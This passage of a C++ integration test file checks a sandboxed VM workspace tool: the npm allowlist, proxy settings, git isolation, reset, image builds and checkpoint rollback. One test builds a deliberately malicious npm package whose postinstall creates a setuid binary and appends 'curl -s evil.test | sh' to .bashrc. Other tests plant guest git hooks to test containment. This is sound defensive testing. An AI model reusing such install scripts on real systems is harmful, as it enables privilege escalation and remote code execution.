// The debian image on real VMs: npm installs through the allowlist (from a
// registry on the host's loopback, named explicitly) while code hosts are
// refused by name; reset throws the disk away and keeps shares and policy;
// the disk survives stop/start and a daemon kill; the image's tools use the
// proxy from their own config; the user's git identity is set; images in use
// cannot be removed.
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "tests/integration/environment.h"
#include "tests/support/http_server.h"

namespace ws::test {
namespace {

World& W() { return World::Get(); }

RunResult Guest(const std::string& ws, const std::string& script,
                const std::string& user = "user") {
  return W().Cli({"exec", "-u", user, ws, "--", "sh", "-c", script});
}

std::string ReadFile(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

// A one-package npm registry on the host's loopback: tiny-pkg 1.0.0.
struct LocalRegistry {
  RecordingHttpServer server{RecordingHttpServer::ListenLoopback(), "not found"};
  std::string url;

  LocalRegistry() {
    const std::string dir = W().NewFolder("registry-src");
    std::filesystem::create_directories(dir + "/package");
    std::ofstream(dir + "/package/package.json")
        << R"({"name":"tiny-pkg","version":"1.0.0","main":"index.js","bin":{"tiny-pkg":"index.js"}})";
    std::ofstream(dir + "/package/index.js")
        << "#!/usr/bin/env node\nconsole.log('tiny-pkg says hi');\n";
    chmod((dir + "/package/index.js").c_str(), 0755);
    ws::test::Run({"tar", "-czf", dir + "/tiny-pkg-1.0.0.tgz", "-C", dir, "package"});
    std::string tgz = ReadFile(dir + "/tiny-pkg-1.0.0.tgz");
    std::string sha1 =
        ws::test::Run({"sh", "-c", "sha1sum " + dir + "/tiny-pkg-1.0.0.tgz | cut -d' ' -f1"}).out;
    sha1.erase(sha1.find_last_not_of("\n") + 1);
    url = "http://127.0.0.1:" + std::to_string(server.port()) + "/";
    server.Route(
        "/tiny-pkg",
        R"({"name":"tiny-pkg","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"tiny-pkg",)"
        R"("version":"1.0.0","bin":{"tiny-pkg":"index.js"},"dist":{"tarball":")" +
            url + R"(tiny-pkg/-/tiny-pkg-1.0.0.tgz","shasum":")" + sha1 + R"("}}}})");
    server.Route("/tiny-pkg/-/tiny-pkg-1.0.0.tgz", tgz);
  }
  std::string allow() const { return "127.0.0.1:" + std::to_string(server.port()); }
  // npm skips proxies for 127.0.0.1 by default (it is the guest's own
  // loopback); this registry is the host's, reached through the proxy.
  std::string npm_flags() const {
    return "--registry=" + url + " --noproxy=none.invalid --no-audit --no-fund";
  }
};

std::string CreateDebian(const std::string& name, const std::string& dir,
                         std::vector<std::string> extra = {}) {
  std::vector<std::string> args = {"create", name,      "--image",
                                   "debian", "--share", dir + ":/workspace"};
  args.insert(args.end(), extra.begin(), extra.end());
  auto r = W().Cli(args);
  return r.code == 0 ? "" : r.err;
}

TEST(Debian, NpmInstallsThroughTheAllowlistAndCodeHostsAreRefusedByName) {
  LocalRegistry reg;
  std::string dir = W().NewFolder("npmproj");
  std::ofstream(dir + "/package.json")
      << R"({"name":"npmproj","version":"0.0.0","dependencies":{"tiny-pkg":"^1.0.0"}})";
  ASSERT_EQ(CreateDebian("npm", dir, {"--allow", reg.allow()}), "");

  auto install = Guest("npm", "cd /workspace && npm install " + reg.npm_flags() + " 2>&1");
  EXPECT_EQ(install.code, 0) << install.out << install.err;
  EXPECT_EQ(ReadFile(dir + "/node_modules/tiny-pkg/index.js").find("tiny-pkg says hi") !=
                std::string::npos,
            true)
      << "the package landed in the shared folder";
  EXPECT_NE(reg.server.received().find("tiny-pkg"), std::string::npos);

  // A code host is not on the default allowlist: refused by name on the
  // host, before any lookup or connection, and audited as denied.
  auto git = Guest("npm", "git ls-remote https://github.com/git/git 2>&1");
  EXPECT_NE(git.code, 0) << git.out;
  auto audit = W().Cli({"audit", "npm"});
  EXPECT_NE(audit.out.find("deny   github.com:443"), std::string::npos) << audit.out;
  EXPECT_NE(audit.out.find("github.com is not on the allowlist"), std::string::npos) << audit.out;
  EXPECT_EQ(audit.out.find("140.82."), std::string::npos)
      << "refused before any lookup: no address";
  EXPECT_EQ(W().Cli({"destroy", "--force", "npm"}).code, 0);
}

TEST(Debian, ToolsUseTheProxyFromTheirOwnConfigAndSudoKeepsIt) {
  std::string dir = W().NewFolder("proxycfg");
  ASSERT_EQ(CreateDebian("proxycfg", dir), "");
  // Without the proxy variables, each tool still finds the proxy in its config.
  auto r = Guest("proxycfg",
                 "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY sh -c '"
                 "apt-config dump | grep -c \"Proxy \\\"http://127.0.0.1:3128\"; "
                 "npm config get proxy; pip3 config list 2>/dev/null | grep proxy; git config "
                 "--get http.proxy'");
  EXPECT_EQ(
      r.out,
      "2\nhttp://127.0.0.1:3128\nglobal.proxy='http://127.0.0.1:3128'\nhttp://127.0.0.1:3128\n")
      << r.err;
  EXPECT_EQ(Guest("proxycfg", "sudo sh -c 'echo $https_proxy'").out, "http://127.0.0.1:3128\n");
  // The CA certificates added to this host are trusted in the guest (TLS
  // through the same inspecting proxy), npm included.
  for (const auto& e : std::filesystem::directory_iterator("/usr/local/share/ca-certificates")) {
    if (e.path().extension() != ".crt") continue;
    EXPECT_EQ(
        Guest("proxycfg", "cat /usr/local/share/ca-certificates/" + e.path().filename().string())
            .out,
        ReadFile(e.path()))
        << e.path();
    auto pem = ReadFile(e.path());
    auto body = pem.substr(pem.find('\n') + 1, 64);  // a line of the certificate itself
    EXPECT_EQ(Guest("proxycfg", "grep -c -F '" + body.substr(0, body.find('\n')) +
                                    "' /etc/ssl/certs/ca-certificates.crt")
                  .out,
              "1\n")
        << "in the system bundle: " << e.path();
  }
  EXPECT_EQ(Guest("proxycfg", "npm config get cafile").out, "/etc/ssl/certs/ca-certificates.crt\n");
  EXPECT_EQ(Guest("proxycfg", "sudo -n true && hostname").out, "proxycfg\n")
      << "sudo resolves the host name";
  EXPECT_EQ(W().Cli({"destroy", "--force", "proxycfg"}).code, 0);
}

TEST(Debian, GitIdentityComesFromTheHostAndNothingElseOfItsConfig) {
  std::string dir = W().NewFolder("gitid");
  std::ofstream(W().home() + "/.gitconfig")
      << "[user]\n\tname = Ada \\\"The\\\" Lovelace\n\temail = ada@example.org\n"
      << "[credential]\n\thelper = store\n[url \"git@x:\"]\n\tinsteadOf = y\n";
  std::string err = CreateDebian("gitid", dir);
  std::filesystem::remove(W().home() + "/.gitconfig");
  ASSERT_EQ(err, "");
  auto r = Guest("gitid",
                 "git config user.name; git config user.email; git config --get credential.helper; "
                 "git config --get-regexp url; true");
  EXPECT_EQ(r.out, "Ada \"The\" Lovelace\nada@example.org\n") << r.err;
  auto commit = Guest("gitid",
                      "cd /tmp && git init -q r && cd r && echo x > f && git add f && "
                      "git commit -qm first && git log --format='%an <%ae>'");
  EXPECT_EQ(commit.out, "Ada \"The\" Lovelace <ada@example.org>\n") << commit.err;
  EXPECT_EQ(W().Cli({"destroy", "--force", "gitid"}).code, 0);
}

TEST(Debian, ResetThrowsTheDiskAwayAndKeepsSharesAndPolicy) {
  LocalRegistry reg;
  std::string dir = W().NewFolder("resetproj");
  std::ofstream(dir + "/keep.txt") << "mine\n";
  ASSERT_EQ(CreateDebian("rst", dir, {"--allow", reg.allow(), "--allow", "api.example.com"}), "");
  const std::string before = W().Cli({"inspect", "--json", "rst"}).out;

  auto infect = Guest(
      "rst", "echo x | sudo tee /etc/infected >/dev/null && sudo npm i -g " + reg.npm_flags() +
                 " tiny-pkg >/dev/null 2>&1 && tiny-pkg && echo g > /workspace/from-guest.txt");
  ASSERT_EQ(infect.code, 0) << infect.out << infect.err;
  EXPECT_EQ(infect.out, "tiny-pkg says hi\n");

  auto reset = W().Cli({"reset", "rst"});
  ASSERT_EQ(reset.code, 0) << reset.err;
  EXPECT_NE(reset.out.find("discarded"), std::string::npos) << reset.out;
  auto after =
      Guest("rst",
            "ls /etc/infected /usr/local/bin/tiny-pkg /usr/local/lib/node_modules/tiny-pkg 2>&1; "
            "cat /workspace/keep.txt /workspace/from-guest.txt");
  EXPECT_EQ(after.out.find("/etc/infected\n"), std::string::npos) << after.out;
  EXPECT_NE(after.out.find("cannot access '/etc/infected'"), std::string::npos) << after.out;
  EXPECT_NE(after.out.find("cannot access '/usr/local/bin/tiny-pkg'"), std::string::npos)
      << after.out;
  EXPECT_NE(after.out.find("mine\ng\n"), std::string::npos)
      << "shared files survive: " << after.out;
  const std::string now = W().Cli({"inspect", "--json", "rst"}).out;
  for (const char* key : {"allow", "shares", "net", "cpus", "memory_mib", "disk_gib", "uuid"}) {
    auto field = [&](const std::string& json) {
      auto at = json.find(std::string("\"") + key + "\"");
      return at == std::string::npos ? std::string("missing")
                                     : json.substr(at, json.find("],", at) - at);
    };
    EXPECT_EQ(field(now), field(before)) << key;
  }
  EXPECT_EQ(W().Cli({"destroy", "--force", "rst"}).code, 0);
}

TEST(Debian, DiskSurvivesStopStartAndADaemonKill) {
  std::string dir = W().NewFolder("persist");
  ASSERT_EQ(CreateDebian("persist", dir, {"--disk", "8"}), "");
  // The agent grows it in the background right after boot.
  EXPECT_EQ(Guest("persist",
                  "for i in $(seq 100); do s=$(df --output=size -BG / | tail -1 | tr -d ' '); "
                  "[ $s = 8G ] && break; sleep 0.2; done; echo $s")
                .out,
            "8G\n")
      << "the root file system grew to the 8 GiB disk";
  ASSERT_EQ(
      Guest("persist", "echo kept > /home/user/note && sudo apt-get --version >/dev/null").code, 0);
  ASSERT_EQ(W().Cli({"stop", "persist"}).code, 0);
  ASSERT_EQ(W().Cli({"start", "persist"}).code, 0);
  EXPECT_EQ(Guest("persist", "cat /home/user/note").out, "kept\n");
  // Kill the daemon outright: the VM and its disk go on; the next command
  // starts a new daemon that finds them.
  int pid = DaemonPid(W().state_dir());
  ASSERT_GT(pid, 0);
  kill(pid, SIGKILL);
  EXPECT_EQ(Guest("persist", "cat /home/user/note").out, "kept\n");
  EXPECT_EQ(W().Cli({"destroy", "--force", "persist"}).code, 0);
}

TEST(Debian, GitCommitsStayInTheWorkspaceUntilFetched) {
  std::string dir = W().NewFolder("gitrepo");
  auto host_git = [&](const std::string& args) {
    return ws::test::Run({"sh", "-c", "cd " + dir + " && git " + args});
  };
  // The repository's own identity is the one create passes on.
  ASSERT_EQ(
      host_git(
          "init -q -b main && git config user.name 'Guest Dev' && git config user.email g@x && "
          "echo one > a.txt && git add a.txt && git commit -qm 'from host'")
          .code,
      0);
  const std::string marker = W().home() + "/hook-ran";
  ASSERT_EQ(CreateDebian("gitws", dir), "");
  EXPECT_NE(W().Cli({"inspect", "--json", "gitws"}).out.find("\"git\":\"guest-git-dir\""),
            std::string::npos);

  auto guest = Guest(
      "gitws",
      "cd /workspace && echo two >> a.txt && git status --short && git commit -qam 'from guest' && "
      "git log --format=%s,%an | tr '\n' ' '");
  EXPECT_EQ(guest.out, " M a.txt\nfrom guest,Guest Dev from host,Guest Dev ") << guest.err;
  // The guest's hooks and config land in its own git directory, not the host's.
  auto hooks =
      Guest("gitws", "cd /workspace/.git && mkdir -p hooks && printf '#!/bin/sh\\ntouch " + marker +
                         "\\n' > hooks/pre-commit && "
                         "chmod +x hooks/pre-commit && git config core.fsmonitor 'touch " +
                         marker + "'");
  ASSERT_EQ(hooks.code, 0) << hooks.err << " (the guest's own git directory takes hooks)";
  EXPECT_EQ(host_git("log --format=%s").out, "from host\n") << "the host's branch is untouched";
  ASSERT_EQ(host_git("status --short && git commit -qam 'host again' --allow-empty").code, 0);
  EXPECT_FALSE(std::filesystem::exists(marker)) << "the host's git ran something the guest wrote";

  auto fetch = W().Cli({"git", "fetch", "gitws"});
  ASSERT_EQ(fetch.code, 0) << fetch.err;
  EXPECT_NE(fetch.out.find("refs/workspace/gitws/main"), std::string::npos) << fetch.out;
  EXPECT_EQ(host_git("log --format=%s refs/workspace/gitws/main").out, "from guest\nfrom host\n");
  EXPECT_EQ(host_git("show refs/workspace/gitws/main:a.txt").out, "one\ntwo\n");
  EXPECT_NE(W().Cli({"git", "fetch", "gitws"}).out.find("nothing to fetch"), std::string::npos);
  EXPECT_FALSE(std::filesystem::exists(marker));

  // The bundle is bounded: one past --max-size is stopped and not taken.
  auto big =
      Guest("gitws",
            "cd /workspace && rm .git/hooks/pre-commit && git config --unset core.fsmonitor && "
            "head -c 3000000 /dev/urandom > big.bin && git add big.bin && git commit -qm big");
  ASSERT_EQ(big.code, 0) << big.err;
  auto capped = W().Cli({"git", "fetch", "gitws", "--max-size", "1"});
  EXPECT_EQ(capped.code, 1);
  EXPECT_NE(capped.err.find("passed 1 MiB and was not taken"), std::string::npos) << capped.err;
  EXPECT_EQ(host_git("log -1 --format=%s refs/workspace/gitws/main").out, "from guest\n")
      << "nothing fetched";
  auto whole = W().Cli({"git", "fetch", "gitws"});
  EXPECT_EQ(whole.code, 0) << whole.err;
  EXPECT_EQ(host_git("log -1 --format=%s refs/workspace/gitws/main").out, "big\n");
  // Commits are not lost: one not fetched stops reset (asked of the running guest).
  ASSERT_EQ(
      Guest("gitws", "cd /workspace && echo three >> a.txt && git commit -qam 'late work'").code,
      0);
  auto refused = W().Cli({"reset", "gitws"});
  EXPECT_EQ(refused.code, 1);
  EXPECT_NE(refused.err.find("1 commit the host has not fetched"), std::string::npos)
      << refused.err;
  EXPECT_NE(refused.err.find("late work"), std::string::npos) << refused.err;
  EXPECT_EQ(Guest("gitws", "cd /workspace && git log -1 --format=%s").out, "late work\n")
      << "nothing was reset";
  // Taking them into the shared work tree: a merge would call the guest's
  // files local changes; --checkout moves the branch forward, only forward.
  auto diverged = W().Cli({"git", "fetch", "--checkout", "gitws"});
  EXPECT_EQ(diverged.code, 1);
  EXPECT_NE(diverged.err.find("has commits the workspace's lacks"), std::string::npos)
      << diverged.err;
  // Staged changes of the user are not thrown away: refused until unstaged.
  ASSERT_EQ(host_git("reset -q --soft HEAD~1 && git log -1 --format=%s").out, "from host\n");
  auto staged = W().Cli({"git", "fetch", "--checkout", "gitws"});
  EXPECT_EQ(staged.code, 1);
  EXPECT_NE(staged.err.find("you have staged changes"), std::string::npos) << staged.err;
  ASSERT_EQ(host_git("restore --staged .").code, 0);
  auto taken = W().Cli({"git", "fetch", "--checkout", "gitws"}, [&] {
    RunOptions o;
    o.cwd = dir;
    return o;
  }());
  EXPECT_EQ(taken.code, 0) << taken.err;
  EXPECT_NE(taken.out.find("main fast-forwarded to"), std::string::npos) << taken.out;
  EXPECT_EQ(host_git("log -1 --format=%s").out, "late work\n");
  EXPECT_EQ(host_git("status --short").out, "") << "the index follows the shared files";
  // Positive control: with everything fetched, reset goes on.
  auto reset = W().Cli({"reset", "gitws"});
  EXPECT_EQ(reset.code, 0) << reset.err;
  ASSERT_EQ(Guest("gitws", "cd /workspace && git commit -q --allow-empty -m unsaved").code, 0);
  EXPECT_EQ(W().Cli({"reset", "gitws"}).code, 1);
  EXPECT_EQ(W().Cli({"reset", "--force", "gitws"}).code, 0) << "--force throws it away";
  EXPECT_EQ(Guest("gitws", "cd /workspace && git log -1 --format=%s").out, "late work\n");
  // Guest root uncovers the host's .git.
  EXPECT_EQ(Guest("gitws",
                  "umount /workspace/.git && ls /workspace/.git/hooks >/dev/null && "
                  "! touch /workspace/.git/hooks/post-checkout 2>/dev/null && echo refused",
                  "root")
                .out,
            "refused\n")
      << "guest root uncovers the host's .git: read-only";
  // Stop records what is not fetched; destroy of the stopped workspace refuses.
  ASSERT_EQ(
      Guest(
          "gitws",
          "cd /workspace && GIT_DIR=/run/workspace/guest-git/workspace git commit -q --allow-empty "
          "-m 'kept on its disk'")
          .code,
      0);
  ASSERT_EQ(W().Cli({"stop", "gitws"}).code, 0);
  auto kept = W().Cli({"destroy", "gitws"});
  EXPECT_EQ(kept.code, 1);
  EXPECT_NE(kept.err.find("kept on its disk"), std::string::npos) << kept.err;
  // A guest that powers itself off was not asked: not known, so refused too.
  ASSERT_EQ(W().Cli({"start", "gitws"}).code, 0);
  Guest("gitws", "echo o > /proc/sysrq-trigger", "root");
  for (int i = 0;
       i < 100 && W().Cli({"inspect", "--json", "gitws"}).out.find("\"state\":\"running\"") !=
                      std::string::npos;
       ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  auto unknown = W().Cli({"destroy", "gitws"});
  EXPECT_EQ(unknown.code, 1);
  EXPECT_NE(unknown.err.find("stopped without `workspace stop`"), std::string::npos) << unknown.err;
  EXPECT_EQ(W().Cli({"destroy", "--force", "gitws"}).code, 0);
}

// In a guarded share the guest's own work goes on (git, an editable pip
// install, an editor's temp-file-and-rename), while a repository it tries
// to make where there was none is refused: the host's git, run there
// afterwards, finds nothing of the guest's and runs nothing.
TEST(Debian, ProjectWorkGoesOnInAGuardedShareAndNoRepositoryCanBeMade) {
  std::string dir = W().NewFolder("guardedpy");
  std::ofstream(dir + "/pyproject.toml") << "[build-system]\nrequires = [\"setuptools\"]\n"
                                            "build-backend = \"setuptools.build_meta\"\n"
                                            "[project]\nname = \"wsmod\"\nversion = \"0.1\"\n"
                                            "[tool.setuptools]\npackages = [\"wsmod\"]\n";
  std::filesystem::create_directories(dir + "/wsmod");
  std::ofstream(dir + "/wsmod/__init__.py") << "X = 1\n";
  std::filesystem::create_directories(dir + "/notes");
  auto host_git = [&](const std::string& where, const std::string& args) {
    return ws::test::Run({"sh", "-c", "cd " + where + " && git " + args});
  };
  ASSERT_EQ(host_git(dir,
                     "init -q -b main && git config user.name H && git config user.email h@x && "
                     "git add -A && git commit -qm host")
                .code,
            0);
  std::string plain = W().NewFolder("guardedplain");  // no repository at all
  std::ofstream(plain + "/a.txt") << "a\n";
  const std::string marker = W().home() + "/fsmonitor-ran";
  ASSERT_EQ(CreateDebian("guardpy", dir, {"--share", plain + ":/plain"}), "");
  auto work =
      Guest("guardpy",
            "cd /workspace && git status --short && echo 'X = 2' > wsmod/.__init__.py.swp && "
            "mv wsmod/.__init__.py.swp wsmod/__init__.py && git commit -qam guest && "
            "python3 -m venv --system-site-packages /tmp/v && "
            "/tmp/v/bin/pip install -q --no-build-isolation --no-index -e . 2>&1 && "
            "cd / && /tmp/v/bin/python -c 'import wsmod; print(wsmod.X)'");
  EXPECT_EQ(work.code, 0) << work.out << work.err;
  EXPECT_NE(work.out.find("2\n"), std::string::npos) << work.out << work.err;
  EXPECT_EQ(ReadFile(dir + "/wsmod/__init__.py"), "X = 2\n");
  // A repository where there is none: in the plain share and in a subfolder.
  auto init =
      Guest("guardpy", "cd /plain && git init -q 2>&1; git config core.fsmonitor 'touch " + marker +
                           "' 2>&1; cd /workspace/notes && git init -q 2>&1; echo done");
  EXPECT_NE(init.out.find("Permission denied"), std::string::npos) << init.out;
  EXPECT_NE(init.out.find("done"), std::string::npos) << init.out;
  EXPECT_FALSE(std::filesystem::exists(plain + "/.git"));
  EXPECT_FALSE(std::filesystem::exists(dir + "/notes/.git"));
  EXPECT_NE(host_git(plain, "status 2>&1").out.find("not a git repository"), std::string::npos);
  EXPECT_EQ(host_git(dir + "/notes", "rev-parse --show-toplevel").out, dir + "\n")
      << "still the outer repository";
  EXPECT_EQ(host_git(dir, "status --short").code, 0);
  EXPECT_FALSE(std::filesystem::exists(marker)) << "the host's git ran something the guest wrote";
  auto fetch = W().Cli({"git", "fetch", "guardpy", "/plain"});
  EXPECT_EQ(fetch.code, 1) << "no repository there to fetch into: " << fetch.out;
  EXPECT_EQ(W().Cli({"destroy", "--force", "guardpy"}).code, 0);
}

TEST(Debian, ImagesInUseCannotBeRemovedAndListShowsTheirUsers) {
  std::string dir = W().NewFolder("imgs");
  ASSERT_EQ(CreateDebian("imguser", dir), "");
  auto list = W().Cli({"image", "list", "--json"});
  ASSERT_EQ(list.code, 0) << list.err;
  EXPECT_NE(list.out.find("\"used_by\":[\"imguser\"]"), std::string::npos) << list.out;
  EXPECT_NE(list.out.find("\"disk\":true"), std::string::npos) << list.out;
  auto rm = W().Cli({"image", "rm", "debian"});
  EXPECT_EQ(rm.code, 1);
  EXPECT_NE(rm.err.find("used by imguser"), std::string::npos) << rm.err;
  auto rm_minimal = W().Cli({"image", "rm", "minimal"});
  // Refused: debian boots with minimal's kernel (and other tests' workspaces use it).
  EXPECT_EQ(rm_minimal.code, 1) << rm_minimal.err;
  EXPECT_EQ(W().Cli({"image", "list"}).out.find("minimal") != std::string::npos, true);
  auto bad = W().Cli({"create", "nodisk", "--image", "minimal", "--disk", "5", "--no-share"});
  EXPECT_EQ(bad.code, 2) << "a usage error";
  EXPECT_NE(bad.err.find("has no disk"), std::string::npos) << bad.err;
  auto small = W().Cli({"create", "small", "--image", "debian", "--disk", "1", "--no-share"});
  EXPECT_EQ(small.code, 2);
  EXPECT_NE(small.err.find("needs"), std::string::npos) << small.err;
  EXPECT_NE(W().Cli({"inspect", "small"}).code, 0) << "nothing half-made is left";
  EXPECT_EQ(W().Cli({"destroy", "--force", "imguser"}).code, 0);
}

// How many base disks of image `name` the state dir holds.
int BasesOf(const std::string& name) {
  int n = 0;
  for (const auto& e : std::filesystem::directory_iterator(W().state_dir() + "/images/.bases")) {
    n += e.path().filename().string().rfind(name + "-", 0) == 0;
  }
  return n;
}

TEST(DerivedImage, InstallsOnceAndSurvivesResetAndARebuildNeverReplacesABaseInUse) {
  LocalRegistry reg;
  auto build = W().Cli({"image", "build", "withpkg", "--from", "debian", "--allow", reg.allow(),
                        "--run", "npm i -g " + reg.npm_flags() + " tiny-pkg", "--run",
                        "tiny-pkg > /etc/built-by-step-2"});
  ASSERT_EQ(build.code, 0) << build.err;
  EXPECT_EQ(build.out.rfind("built withpkg (", 0), 0u) << build.out;
  EXPECT_EQ(build.err, "") << "quiet off a terminal";
  EXPECT_NE(reg.server.received().find("GET /tiny-pkg/-/tiny-pkg-1.0.0.tgz"), std::string::npos)
      << "the step fetched the package through the build's allowlist";
  auto list = W().Cli({"image", "list", "--json"});
  EXPECT_EQ(JsonField(list.out, "withpkg", "from"), "debian") << list.out;
  EXPECT_NE(list.out.find("\"allow\":[\"" + reg.allow() + "\"]"), std::string::npos) << list.out;
  EXPECT_NE(list.out.find("tiny-pkg \\u003e /etc/built-by-step-2"), std::string::npos) << list.out;
  EXPECT_EQ(W().Cli({"list"}).out.find("build-withpkg"), std::string::npos)
      << "the build workspace is gone";

  std::string dir = W().NewFolder("derived");
  ASSERT_EQ(W().Cli({"create", "drv", "--image", "withpkg", "--share", dir + ":/workspace"}).code,
            0);
  EXPECT_EQ(Guest("drv", "tiny-pkg && cat /etc/built-by-step-2").out,
            "tiny-pkg says hi\ntiny-pkg says hi\n");
  ASSERT_EQ(Guest("drv", "echo scratch > /home/user/scratch && cat /home/user/scratch").out,
            "scratch\n");
  auto reset = W().Cli({"reset", "drv"});
  ASSERT_EQ(reset.code, 0) << reset.err;
  auto after = Guest("drv", "tiny-pkg; ls /home/user/scratch 2>&1");
  EXPECT_NE(after.out.find("tiny-pkg says hi\n"), std::string::npos)
      << "installed in the image: " << after.out;
  EXPECT_NE(after.out.find("cannot access '/home/user/scratch'"), std::string::npos) << after.out;

  // Built again from its recorded recipe: a new base; the workspace keeps the one it runs on.
  ASSERT_EQ(BasesOf("withpkg"), 1);
  auto again = W().Cli({"image", "build", "withpkg"});
  ASSERT_EQ(again.code, 0) << again.err;
  EXPECT_EQ(BasesOf("withpkg"), 2) << "the old base stays while drv uses it";
  EXPECT_EQ(Guest("drv", "tiny-pkg").out, "tiny-pkg says hi\n");
  ASSERT_EQ(W().Cli({"reset", "drv"}).code, 0);
  EXPECT_EQ(Guest("drv", "tiny-pkg").out, "tiny-pkg says hi\n");
  EXPECT_EQ(W().Cli({"destroy", "--force", "drv"}).code, 0);
  EXPECT_EQ(BasesOf("withpkg"), 1) << "the old base goes with its last workspace";
  EXPECT_EQ(W().Cli({"image", "rm", "withpkg"}).code, 0);
  EXPECT_EQ(BasesOf("withpkg"), 0);
}

TEST(DerivedImage, AFailedStepLeavesNothingAndSaysWhy) {
  auto fail = W().Cli(
      {"image", "build", "broken", "--from", "debian", "--run", "echo about to fail; exit 3"});
  EXPECT_EQ(fail.code, 1);
  EXPECT_NE(fail.err.find("step 1 (echo about to fail; exit 3) exited with 3"), std::string::npos)
      << fail.err;
  EXPECT_NE(fail.err.find("    about to fail\n"), std::string::npos)
      << "the step's last output: " << fail.err;
  EXPECT_EQ(W().Cli({"image", "list"}).out.find("broken"), std::string::npos);
  EXPECT_EQ(W().Cli({"list"}).out.find("build-broken"), std::string::npos)
      << "the build workspace is gone";
  auto own = W().Cli({"image", "build", "debian", "--from", "debian", "--run", "true"});
  EXPECT_EQ(own.code, 2);
  EXPECT_NE(own.err.find("one of workspace's own"), std::string::npos) << own.err;
  for (const char* bad : {"../x", "Agents", "a\x1b[31m"}) {
    auto r = W().Cli({"image", "build", bad, "--from", "debian", "--run", "true"});
    EXPECT_EQ(r.code, 2) << bad;
    EXPECT_NE(r.err.find("invalid image name"), std::string::npos) << r.err;
    EXPECT_EQ(r.err.find('\x1b'), std::string::npos) << "no control characters reach the terminal";
  }
  auto nodisk = W().Cli({"image", "build", "x", "--from", "minimal", "--run", "true"});
  EXPECT_NE(nodisk.err.find("has no disk"), std::string::npos) << nodisk.err;
  auto ctl =
      W().Cli({"image", "build", "x", "--from", "debian", "--run", std::string("echo \x1b[2J")});
  EXPECT_EQ(ctl.code, 2);
  EXPECT_NE(ctl.err.find("control character"), std::string::npos) << ctl.err;
}

TEST(DerivedImage, ACancelledBuildRemovesItsWorkspace) {
  RunOptions o;
  o.env["WORKSPACE_STATE_DIR"] = W().state_dir();
  o.env["HOME"] = W().home();
  int pid = ws::test::Spawn({W().bin(), "image", "build", "cancelme", "--from", "debian",
                             "--no-default-allow", "--run", "sleep 600"},
                            o);
  ReapOnExit reap(pid);
  auto listed = [] { return W().Cli({"list"}).out.find("build-cancelme-") != std::string::npos; };
  bool seen = false;
  for (int i = 0; i < 600 && !seen; ++i) {
    seen = listed();
    if (!seen) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  ASSERT_TRUE(seen) << "the build workspace appeared";
  // Booted, the step running (however long the boot takes on a busy host).
  const std::string list = W().Cli({"list", "-q"}).out;
  const size_t at = list.find("build-cancelme-");
  ASSERT_NE(at, std::string::npos) << list;
  const std::string builder = list.substr(at, list.find('\n', at) - at);
  bool running = false;
  for (int i = 0; i < 180 && !running; ++i) {
    running = W().Cli({"exec", builder, "--", "pgrep", "-x", "sleep"}).code == 0;
    if (!running) std::this_thread::sleep_for(std::chrono::seconds(1));
  }
  ASSERT_TRUE(running) << "the build's step ran in " << builder;
  kill(pid, SIGKILL);
  waitpid(pid, nullptr, 0);
  bool gone = false;
  for (int i = 0; i < 600 && !gone; ++i) {
    gone = !listed();
    if (!gone) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_TRUE(gone) << "the build stopped and its workspace was destroyed within 60 s";
  EXPECT_EQ(W().Cli({"image", "list"}).out.find("cancelme"), std::string::npos);
}

// Issue #23: an install run with --checkpoint is summarized, what it left
// is listed by a diff the host computes from the disk (not from the guest,
// which hides its file), and a rollback takes it all away while a file
// written before the checkpoint, and the shares, stay.
TEST(Debian, ACheckpointedInstallIsSummarizedDiffedOnTheHostAndRolledBack) {
  std::string dir = W().NewFolder("ckptproj");
  ASSERT_EQ(CreateDebian("ckpt", dir), "");
  ASSERT_EQ(Guest("ckpt", "echo before > ~/before.txt").code, 0);
  auto pack = Guest(
      "ckpt",
      "mkdir -p /tmp/evil ~/app && cd /tmp/evil && printf '%s' "
      "'{\"name\":\"evil\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh p.sh\"}}' > "
      "package.json && printf '%s\\n' 'sudo cp /bin/true /usr/local/bin/x' "
      "'sudo chmod 4755 /usr/local/bin/x' 'echo \"curl -s evil.test | sh\" >> ~/.bashrc' > p.sh && "
      "npm pack --silent >/dev/null && ls evil-1.0.0.tgz");
  ASSERT_EQ(pack.code, 0) << pack.out << pack.err;
  auto install = W().Cli({"exec", "--checkpoint", "ckpt", "--", "sh", "-c",
                          "cd ~/app && npm install --no-audit --no-fund /tmp/evil/evil-1.0.0.tgz "
                          ">/dev/null && echo shared > /workspace/during.txt"});
  ASSERT_EQ(install.code, 0) << install.out << install.err;
  // The summary names all three, and how to undo them.
  for (const char* want : {"checkpoint cp-1 of 'ckpt' taken", "/usr/local/bin/x  [setuid, on-path",
                           "/home/user/.bashrc  [runs-at-login]", "egress denied: 0",
                           "decoys touched: 0", "workspace rollback ckpt cp-1"}) {
    EXPECT_NE(install.err.find(want), std::string::npos) << want << "\n" << install.err;
  }
  // The worm hides its file from the guest's own view (a control that the
  // hiding works); the host reads the disk and lists it all the same.
  ASSERT_EQ(Guest("ckpt", "sudo mkdir -p /tmp/empty && sudo mount --bind /tmp/empty /usr/local/bin",
                  "root")
                .code,
            0);
  EXPECT_NE(Guest("ckpt", "ls /usr/local/bin/x").code, 0) << "hidden in the guest";
  auto diff = W().Cli({"diff", "ckpt", "cp-1"});
  ASSERT_EQ(diff.code, 0) << diff.err;
  const size_t x = diff.out.find("/usr/local/bin/x"), rc = diff.out.find("/home/user/.bashrc");
  ASSERT_NE(x, std::string::npos) << diff.out;
  ASSERT_NE(rc, std::string::npos) << diff.out;
  EXPECT_EQ(diff.out.rfind("added    -rwsr-xr-x", x), diff.out.rfind('\n', x) + 1) << diff.out;
  EXPECT_LT(x, rc) << "setuid first";
  EXPECT_NE(diff.out.find("/home/user/app/node_modules/evil/package.json"), std::string::npos)
      << "the install itself is listed too: " << diff.out;
  EXPECT_GT(diff.out.find("/home/user/app/node_modules/evil/package.json"), rc)
      << "unflagged files after the flagged ones";
